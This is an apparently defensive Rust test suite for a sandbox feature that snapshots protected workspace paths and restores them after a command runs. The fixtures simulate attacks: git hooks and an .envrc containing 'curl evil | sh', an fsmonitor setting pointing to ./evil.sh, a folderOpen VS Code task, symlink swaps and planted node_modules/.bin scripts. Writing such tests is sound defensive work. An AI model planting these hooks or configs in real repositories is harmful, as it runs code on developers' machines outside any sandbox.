//! Protected paths: snapshot, do what an attacker would with std::fs, restore, and check the
//! workspace is back and nothing was deleted without a copy in the quarantine.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use toolyard_exec::protect::{DEFAULT_PROTECTED, Protected, Restored, describe};

/// One entry of a tree listing: its type, mode and content (or link target).
#[derive(Debug, Clone, PartialEq, Eq)]
enum Entry {
    Dir(u32),
    File(u32, Vec<u8>),
    Link(PathBuf),
}

/// Every path under `root` (not following symlinks), relative.
fn tree(root: &Path) -> BTreeMap<String, Entry> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, Entry>) {
        let mut names: Vec<_> = fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        names.sort();
        for path in names {
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let meta = fs::symlink_metadata(&path).unwrap();
            let mode = meta.permissions().mode() & 0o7777;
            if meta.file_type().is_symlink() {
                out.insert(rel, Entry::Link(fs::read_link(&path).unwrap()));
            } else if meta.is_dir() {
                out.insert(rel, Entry::Dir(mode));
                walk(root, &path, out);
            } else {
                out.insert(rel, Entry::File(mode, fs::read(&path).unwrap()));
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

struct Fixture {
    _tmp: tempfile::TempDir,
    ws: PathBuf,
    quarantine: PathBuf,
    outside: PathBuf,
}

fn defaults() -> Vec<String> {
    DEFAULT_PROTECTED.iter().map(|s| s.to_string()).collect()
}

/// A workspace with a hand-made `.git` (hooks, config), an editor config and normal files,
/// plus a quarantine and a directory outside the workspace.
fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    let quarantine = tmp.path().join("quarantine");
    let outside = tmp.path().join("outside");
    fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    fs::create_dir_all(ws.join(".git/objects")).unwrap();
    fs::create_dir_all(ws.join("src")).unwrap();
    fs::create_dir_all(&outside).unwrap();
    fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(
        ws.join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
    )
    .unwrap();
    fs::write(
        ws.join(".git/hooks/pre-commit.sample"),
        "#!/bin/sh\nexit 0\n",
    )
    .unwrap();
    fs::set_permissions(
        ws.join(".git/hooks/pre-commit.sample"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
    fs::write(ws.join("README.md"), "hello\n").unwrap();
    fs::write(outside.join("keep.txt"), "outside\n").unwrap();
    Fixture {
        _tmp: tmp,
        ws,
        quarantine,
        outside,
    }
}

fn protected(f: &Fixture) -> Protected {
    Protected::new(&f.ws, &defaults(), &[])
}

/// The path a report says a moved copy is kept at.
fn kept_at(r: &Restored) -> Option<PathBuf> {
    r.why
        .split("kept at ")
        .nth(1)
        .map(|rest| PathBuf::from(rest.split([',', ';']).next().unwrap().trim()))
}

/// Every report that moved something names a quarantine path that exists.
fn assert_kept(f: &Fixture, restored: &[Restored]) {
    for r in restored {
        if r.action == "removed" || r.why.contains("kept at") {
            let at = kept_at(r).unwrap_or_else(|| panic!("no quarantine path in {r}"));
            assert!(at.starts_with(&f.quarantine), "{r}");
            assert!(
                at.symlink_metadata().is_ok(),
                "{} is missing: {r}",
                at.display()
            );
        }
    }
}

fn find<'a>(restored: &'a [Restored], path: &str) -> &'a Restored {
    restored
        .iter()
        .find(|r| r.path == path)
        .unwrap_or_else(|| panic!("no report for {path} in {restored:?}"))
}

#[test]
fn a_planted_hook_is_moved_to_the_quarantine() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::write(
        f.ws.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    let r = find(&restored, ".git/hooks/pre-commit");
    assert_eq!(r.action, "removed");
    assert!(
        r.to_string()
            .starts_with("removed .git/hooks/pre-commit (created by the command; kept at ")
    );
    assert_eq!(
        fs::read(kept_at(r).unwrap()).unwrap(),
        b"#!/bin/sh\ncurl evil | sh\n"
    );
    assert_kept(&f, &restored);
}

#[test]
fn a_rewritten_git_config_gets_its_bytes_back() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::write(
        f.ws.join(".git/config"),
        "[core]\n\tfsmonitor = ./evil.sh\n",
    )
    .unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    let r = find(&restored, ".git/config");
    assert_eq!(r.action, "restored");
    assert!(r.why.starts_with("the command changed it"), "{r}");
    assert_eq!(
        fs::read_to_string(kept_at(r).unwrap()).unwrap(),
        "[core]\n\tfsmonitor = ./evil.sh\n"
    );
    assert_kept(&f, &restored);
}

#[test]
fn a_mode_change_is_undone() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::set_permissions(f.ws.join(".git/config"), fs::Permissions::from_mode(0o777)).unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    assert_eq!(find(&restored, ".git/config").action, "restored");
}

#[test]
fn a_deleted_git_config_comes_back() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::remove_file(f.ws.join(".git/config")).unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    assert_eq!(
        find(&restored, ".git/config").to_string(),
        "restored .git/config (the command deleted it)"
    );
}

#[test]
fn hooks_swapped_for_a_symlink_out_of_the_workspace_are_rebuilt_without_touching_the_target() {
    let f = fixture();
    let before = tree(&f.ws);
    let outside_before = tree(&f.outside);
    let snap = protected(&f).snapshot();
    fs::remove_dir_all(f.ws.join(".git/hooks")).unwrap();
    fs::write(f.outside.join("pre-commit"), "#!/bin/sh\nevil\n").unwrap();
    let outside_planted = tree(&f.outside);
    symlink(&f.outside, f.ws.join(".git/hooks")).unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    // The symlink's target was neither written nor moved: only the link itself was.
    assert_eq!(tree(&f.outside), outside_planted);
    assert_ne!(tree(&f.outside), outside_before);
    let r = find(&restored, ".git/hooks");
    assert_eq!(r.action, "restored");
    assert!(
        r.why.contains("replaced a directory with a symlink to"),
        "{r}"
    );
    let kept = kept_at(r).unwrap();
    assert!(kept.symlink_metadata().unwrap().file_type().is_symlink());
    assert_kept(&f, &restored);
}

#[test]
fn a_protected_dir_swapped_for_a_symlink_to_a_system_dir_is_never_written_through() {
    let f = fixture();
    fs::create_dir(f.ws.join(".vscode")).unwrap();
    fs::write(f.ws.join(".vscode/settings.json"), "{}\n").unwrap();
    fs::write(f.outside.join("settings.json"), "system file\n").unwrap();
    let before = tree(&f.ws);
    let outside_before = tree(&f.outside);
    let snap = protected(&f).snapshot();
    fs::remove_dir_all(f.ws.join(".vscode")).unwrap();
    symlink(&f.outside, f.ws.join(".vscode")).unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    assert_eq!(tree(&f.outside), outside_before);
    assert_eq!(find(&restored, ".vscode").action, "restored");
    assert_kept(&f, &restored);
}

#[test]
fn a_new_vscode_tasks_file_is_quarantined() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::create_dir(f.ws.join(".vscode")).unwrap();
    fs::write(
        f.ws.join(".vscode/tasks.json"),
        r#"{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}"#,
    )
    .unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    let r = find(&restored, ".vscode");
    assert_eq!(r.action, "removed");
    let kept = kept_at(r).unwrap();
    assert!(kept.join("tasks.json").is_file());
    assert!(
        kept.ends_with(".vscode"),
        "keeps its relative path: {}",
        kept.display()
    );
}

#[test]
fn a_moved_git_dir_and_a_new_one_with_a_hook_are_undone() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::rename(f.ws.join(".git"), f.ws.join(".git-old")).unwrap();
    fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    fs::write(f.ws.join(".git/hooks/post-checkout"), "#!/bin/sh\nevil\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    let after = tree(&f.ws);
    // The protected paths are back as they were ...
    for path in [".git/config", ".git/hooks", ".git/hooks/pre-commit.sample"] {
        assert_eq!(after.get(path), before.get(path), "{path}");
    }
    assert!(!after.contains_key(".git/hooks/post-checkout"));
    // ... and the moved repository, not protected, is left where the command put it.
    assert!(after.contains_key(".git-old/HEAD"));
    assert_eq!(
        find(&restored, ".git/hooks/post-checkout").action,
        "removed"
    );
    assert_eq!(find(&restored, ".git/config").action, "restored");
    assert_kept(&f, &restored);
}

#[test]
fn a_git_dir_replaced_by_a_gitfile_pointing_at_planted_hooks_is_undone() {
    let f = fixture();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::rename(f.ws.join(".git"), f.ws.join("evil")).unwrap();
    fs::write(f.ws.join("evil/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
    fs::write(f.ws.join(".git"), "gitdir: evil\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    let after = tree(&f.ws);
    assert_eq!(after.get(".git"), before.get(".git"));
    assert_eq!(after.get(".git/config"), before.get(".git/config"));
    assert_eq!(find(&restored, ".git").action, "removed");
    assert_kept(&f, &restored);
}

fn git(ws: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(ws)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("HOME", ws)
        .status()
        .expect("git runs");
    assert!(status.success(), "git {args:?}");
}

/// A workspace with no repository yet.
fn bare_fixture() -> Fixture {
    let f = fixture();
    fs::remove_dir_all(f.ws.join(".git")).unwrap();
    f
}

#[test]
fn a_fresh_git_init_keeps_its_repository_and_sample_hooks() {
    let f = bare_fixture();
    let snap = protected(&f).snapshot();
    git(&f.ws, &["init", "-q"]);
    let after_init = tree(&f.ws);
    assert!(
        after_init.keys().any(|k| k.ends_with(".sample")),
        "git made sample hooks"
    );
    let restored = snap.restore(&f.quarantine);
    assert_eq!(restored, vec![], "{}", describe(&restored));
    assert_eq!(tree(&f.ws), after_init);
}

#[test]
fn a_fresh_git_init_loses_a_planted_hook_and_an_fsmonitor_config() {
    let f = bare_fixture();
    let snap = protected(&f).snapshot();
    git(&f.ws, &["init", "-q"]);
    git(&f.ws, &["config", "core.fsmonitor", "./evil.sh"]);
    fs::write(f.ws.join(".git/hooks/post-checkout"), "#!/bin/sh\nevil\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    let after = tree(&f.ws);
    assert!(after.contains_key(".git/HEAD"), "the repository is kept");
    assert!(
        after.contains_key(".git/hooks/pre-commit.sample"),
        "samples are kept"
    );
    assert!(!after.contains_key(".git/hooks/post-checkout"));
    assert!(!after.contains_key(".git/config"));
    let r = find(&restored, ".git/config");
    assert_eq!(r.action, "removed");
    assert!(r.why.contains("sets core.fsmonitor"), "{r}");
    assert_eq!(
        find(&restored, ".git/hooks/post-checkout").action,
        "removed"
    );
    assert_kept(&f, &restored);
}

#[test]
fn normal_files_are_never_touched() {
    let f = fixture();
    let snap = protected(&f).snapshot();
    fs::write(f.ws.join("src/main.rs"), "fn main() { changed(); }\n").unwrap();
    fs::write(f.ws.join("new.txt"), "new\n").unwrap();
    fs::write(f.ws.join(".git/index"), "index\n").unwrap();
    fs::create_dir_all(f.ws.join(".git/refs/heads")).unwrap();
    fs::write(f.ws.join(".git/refs/heads/main"), "0000\n").unwrap();
    let expected = tree(&f.ws);
    let restored = snap.restore(&f.quarantine);
    assert_eq!(restored, vec![]);
    assert_eq!(tree(&f.ws), expected);
    assert!(
        !f.quarantine.exists(),
        "nothing to keep, no quarantine made"
    );
}

#[test]
fn toolyard_artifacts_stay_writable_while_the_rest_of_its_dir_is_protected() {
    let f = fixture();
    let snap = protected(&f).snapshot();
    fs::create_dir_all(f.ws.join(".toolyard/artifacts/plans")).unwrap();
    fs::write(f.ws.join(".toolyard/artifacts/plans/p.json"), "{}").unwrap();
    fs::write(f.ws.join(".toolyard/catalog.toml"), "[hooks]\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    // `.toolyard` was new (an artifact tool may make it while a command runs): its artifacts
    // stay, anything else in it goes.
    assert!(f.ws.join(".toolyard/artifacts/plans/p.json").is_file());
    assert!(!f.ws.join(".toolyard/catalog.toml").exists());
    assert_eq!(find(&restored, ".toolyard/catalog.toml").action, "removed");

    // With `.toolyard` already there, artifacts written meanwhile stay and the rest does not.
    let f = fixture();
    fs::create_dir_all(f.ws.join(".toolyard/artifacts")).unwrap();
    let snap = protected(&f).snapshot();
    fs::write(f.ws.join(".toolyard/artifacts/p.json"), "{}").unwrap();
    fs::write(f.ws.join(".toolyard/catalog.toml"), "[hooks]\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    assert!(f.ws.join(".toolyard/artifacts/p.json").is_file());
    assert!(!f.ws.join(".toolyard/catalog.toml").exists());
    assert_eq!(restored.len(), 1, "{restored:?}");
    assert_eq!(restored[0].path, ".toolyard/catalog.toml");
}

#[test]
fn a_changed_file_too_large_to_keep_is_reported_not_restorable() {
    let f = fixture();
    fs::write(f.ws.join(".envrc"), vec![b'#'; 2 << 20]).unwrap();
    let snap = protected(&f).snapshot();
    fs::write(f.ws.join(".envrc"), "curl evil | sh\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    let r = find(&restored, ".envrc");
    assert_eq!(r.action, "could not restore");
    assert!(r.why.contains("larger than 1 MiB"), "{r}");
}

#[test]
fn describe_says_what_was_undone_and_why() {
    let f = fixture();
    let snap = protected(&f).snapshot();
    assert_eq!(describe(&snap.restore(&f.quarantine)), "");
    fs::write(f.ws.join(".envrc"), "evil\n").unwrap();
    let text = describe(&snap.restore(&f.quarantine));
    assert!(
        text.starts_with(
            "Toolyard undid changes to protected paths (they run code outside the sandbox): \
             removed .envrc (created by the command; kept at "
        ),
        "{text}"
    );
}

#[test]
fn existing_lists_real_protected_paths_and_relative_lists_them_all() {
    let f = fixture();
    symlink("/etc/profile", f.ws.join(".profile")).unwrap();
    fs::write(f.ws.join("catalog.toml"), "").unwrap();
    let p = Protected::new(
        &f.ws,
        &defaults(),
        &[
            f.ws.join("catalog.toml"),
            PathBuf::from("/etc/outside.toml"),
        ],
    );
    let ws = f.ws.canonicalize().unwrap();
    assert_eq!(
        p.existing(),
        vec![
            ws.join(".git/config"),
            ws.join(".git/hooks"),
            ws.join("catalog.toml")
        ]
    );
    let rel = p.relative();
    assert!(rel.contains(&"catalog.toml".to_string()));
    assert!(rel.contains(&".vscode".to_string()));
    assert!(!rel.iter().any(|r| r.contains("outside")));
}

#[test]
fn a_gitfile_protects_the_real_git_dir_inside_the_workspace() {
    let f = fixture();
    fs::rename(f.ws.join(".git"), f.ws.join("real-git")).unwrap();
    fs::write(f.ws.join(".git"), "gitdir: real-git\n").unwrap();
    let p = protected(&f);
    let rel = p.relative();
    for path in [".git", "real-git/config", "real-git/hooks"] {
        assert!(rel.contains(&path.to_string()), "{path} in {rel:?}");
    }
    let before = tree(&f.ws);
    let snap = p.snapshot();
    fs::write(f.ws.join("real-git/hooks/pre-push"), "evil").unwrap();
    fs::write(f.ws.join(".git"), "gitdir: elsewhere\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(tree(&f.ws), before);
    assert_eq!(find(&restored, "real-git/hooks/pre-push").action, "removed");
    assert_eq!(find(&restored, ".git").action, "restored");
}

#[test]
fn what_the_git_config_runs_from_the_workspace_is_protected_too() {
    let f = fixture();
    fs::write(
        f.ws.join(".git/config"),
        "[core]\n\thooksPath = .husky\n\tfsmonitor = tools/fsmon.sh\n\teditor = vim\n\
         [include]\n\tpath = ../shared.gitconfig\n[alias]\n\tx = !scripts/x.sh --flag\n\
         [remote \"origin\"]\n\turl = ../elsewhere/repo\n",
    )
    .unwrap();
    let rel = protected(&f).relative();
    for path in [
        ".husky",
        "tools/fsmon.sh",
        "shared.gitconfig",
        "scripts/x.sh",
    ] {
        assert!(rel.contains(&path.to_string()), "{path} in {rel:?}");
    }
    assert!(
        !rel.iter().any(|r| r.contains("elsewhere") || r == "vim"),
        "{rel:?}"
    );
    // Only when the git config itself is protected.
    let p = Protected::new(&f.ws, &[".vscode".to_string()], &[]);
    assert_eq!(p.relative(), vec![".vscode".to_string()]);
}

#[test]
fn a_custom_list_replaces_the_defaults() {
    let f = fixture();
    let p = Protected::new(
        &f.ws,
        &["Makefile".to_string(), "../escape".to_string()],
        &[],
    );
    assert_eq!(p.relative(), vec!["Makefile".to_string()]);
    let snap = p.snapshot();
    fs::write(f.ws.join(".git/hooks/pre-commit"), "evil").unwrap();
    fs::write(f.ws.join("Makefile"), "all:\n\tevil\n").unwrap();
    let restored = snap.restore(&f.quarantine);
    assert_eq!(restored.len(), 1);
    assert_eq!(restored[0].path, "Makefile");
    assert!(f.ws.join(".git/hooks/pre-commit").exists());
}

#[test]
fn a_quarantine_on_another_file_system_gets_a_copy() {
    let f = fixture();
    let shm = Path::new("/dev/shm");
    use std::os::unix::fs::MetadataExt;
    let (Ok(a), Ok(b)) = (fs::metadata(shm), fs::metadata(&f.ws)) else {
        eprintln!("skipped: no /dev/shm");
        return;
    };
    if a.dev() == b.dev() {
        eprintln!("skipped: /dev/shm is on the workspace's file system");
        return;
    }
    let q = tempfile::tempdir_in(shm).unwrap();
    let before = tree(&f.ws);
    let snap = protected(&f).snapshot();
    fs::create_dir_all(f.ws.join(".vscode/sub")).unwrap();
    fs::write(f.ws.join(".vscode/sub/tasks.json"), "evil").unwrap();
    symlink("/etc/passwd", f.ws.join(".vscode/link")).unwrap();
    let restored = snap.restore(q.path());
    assert_eq!(tree(&f.ws), before);
    let kept = kept_at(find(&restored, ".vscode")).unwrap();
    assert_eq!(fs::read(kept.join("sub/tasks.json")).unwrap(), b"evil");
    assert!(
        kept.join("link")
            .symlink_metadata()
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

// ---- One accepted state per workspace -------------------------------------------------------

#[test]
fn overlapping_commands_undo_against_one_accepted_state_never_their_own() {
    let f = fixture();
    let p = protected(&f);
    // A background command starts with the workspace at rest, and plants a hook.
    let (first, first_hold) = p.begin(&f.quarantine);
    fs::write(f.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
    // A second command starts meanwhile: in another process too, it must not take the plant
    // for the state it restores (a fresh Protected stands for another runner).
    let (second, second_hold) = protected(&f).begin(&f.quarantine);
    // The first ends: its repair removes the plant.
    let undone = first.restore(&f.quarantine);
    drop(first_hold);
    assert_eq!(find(&undone, ".git/hooks/pre-commit").action, "removed");
    // The second ends: it must not put the plant back.
    let undone = second.restore(&f.quarantine);
    drop(second_hold);
    assert!(
        !f.ws.join(".git/hooks/pre-commit").exists(),
        "the plant came back: {undone:?}"
    );
}

#[test]
fn a_plant_made_while_a_command_runs_is_removed_by_a_command_started_after_it() {
    let f = fixture();
    let p = protected(&f);
    let (_long, long_hold) = p.begin(&f.quarantine);
    fs::write(f.ws.join(".git/hooks/post-checkout"), "#!/bin/sh\nevil\n").unwrap();
    let (short, short_hold) = p.begin(&f.quarantine);
    let undone = short.restore(&f.quarantine);
    drop(short_hold);
    assert_eq!(find(&undone, ".git/hooks/post-checkout").action, "removed");
    drop(long_hold);
}

#[test]
fn the_state_is_taken_again_once_the_workspace_is_at_rest() {
    let f = fixture();
    let p = protected(&f);
    let (snap, hold) = p.begin(&f.quarantine);
    assert!(snap.restore(&f.quarantine).is_empty());
    drop(hold);
    // The user adds a hook of their own while nothing runs: the next command accepts it.
    fs::write(f.ws.join(".git/hooks/pre-push"), "#!/bin/sh\nmine\n").unwrap();
    let (snap, hold) = p.begin(&f.quarantine);
    assert!(snap.restore(&f.quarantine).is_empty());
    drop(hold);
    assert_eq!(
        fs::read_to_string(f.ws.join(".git/hooks/pre-push")).unwrap(),
        "#!/bin/sh\nmine\n"
    );
}

#[test]
fn a_planted_accepted_state_link_is_never_followed() {
    let f = fixture();
    fs::create_dir_all(&f.quarantine).unwrap();
    let target = f.outside.join("keep.txt");
    symlink(&target, f.quarantine.join("accepted.state.next")).unwrap();
    let (_snap, hold) = protected(&f).begin(&f.quarantine);
    drop(hold);
    assert_eq!(fs::read_to_string(&target).unwrap(), "outside\n");
}

// ---- node_modules/.bin under a hooks path -----------------------------------------------------

fn husky_fixture() -> Fixture {
    let f = fixture();
    fs::write(
        f.ws.join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n",
    )
    .unwrap();
    fs::create_dir_all(f.ws.join(".husky/_")).unwrap();
    fs::create_dir_all(f.ws.join("node_modules/eslint/bin")).unwrap();
    fs::write(f.ws.join("node_modules/eslint/bin/eslint.js"), "//\n").unwrap();
    fs::create_dir_all(f.ws.join("node_modules/.bin")).unwrap();
    symlink(
        "../eslint/bin/eslint.js",
        f.ws.join("node_modules/.bin/eslint"),
    )
    .unwrap();
    f
}

#[test]
fn with_a_hooks_path_package_bins_are_protected_but_never_held() {
    let f = husky_fixture();
    let p = protected(&f);
    assert!(p.relative().contains(&"node_modules/.bin".to_string()));
    assert!(!p.existing().contains(&f.ws.join("node_modules/.bin")));
}

#[test]
fn a_package_manager_s_links_stand_and_a_planted_program_goes() {
    let f = husky_fixture();
    let snap = protected(&f).snapshot();
    // What `npm install` does: new links into packages, one removed.
    fs::create_dir_all(f.ws.join("node_modules/prettier")).unwrap();
    fs::write(f.ws.join("node_modules/prettier/cli.js"), "//\n").unwrap();
    symlink(
        "../prettier/cli.js",
        f.ws.join("node_modules/.bin/prettier"),
    )
    .unwrap();
    fs::remove_file(f.ws.join("node_modules/.bin/eslint")).unwrap();
    // What an attacker does: a script, and a link out of the packages.
    fs::write(
        f.ws.join("node_modules/.bin/lint-staged"),
        "#!/bin/sh\nevil\n",
    )
    .unwrap();
    symlink("../../.git/x", f.ws.join("node_modules/.bin/tsc")).unwrap();
    let undone = snap.restore(&f.quarantine);
    assert_eq!(
        find(&undone, "node_modules/.bin/lint-staged").action,
        "removed"
    );
    assert_eq!(find(&undone, "node_modules/.bin/tsc").action, "removed");
    assert!(
        f.ws.join("node_modules/.bin/prettier")
            .symlink_metadata()
            .is_ok()
    );
    assert!(!f.ws.join("node_modules/.bin/eslint").exists());
    assert_eq!(undone.len(), 2, "{undone:?}");
    assert_kept(&f, &undone);
}

#[test]
fn a_first_npm_install_keeps_its_links() {
    let f = husky_fixture();
    fs::remove_dir_all(f.ws.join("node_modules")).unwrap();
    let snap = protected(&f).snapshot();
    fs::create_dir_all(f.ws.join("node_modules/eslint/bin")).unwrap();
    fs::create_dir_all(f.ws.join("node_modules/.bin")).unwrap();
    symlink(
        "../eslint/bin/eslint.js",
        f.ws.join("node_modules/.bin/eslint"),
    )
    .unwrap();
    fs::write(f.ws.join("node_modules/.bin/evil"), "#!/bin/sh\n").unwrap();
    let undone = snap.restore(&f.quarantine);
    assert_eq!(find(&undone, "node_modules/.bin/evil").action, "removed");
    assert_eq!(undone.len(), 1, "{undone:?}");
    assert!(
        f.ws.join("node_modules/.bin/eslint")
            .symlink_metadata()
            .is_ok()
    );
}
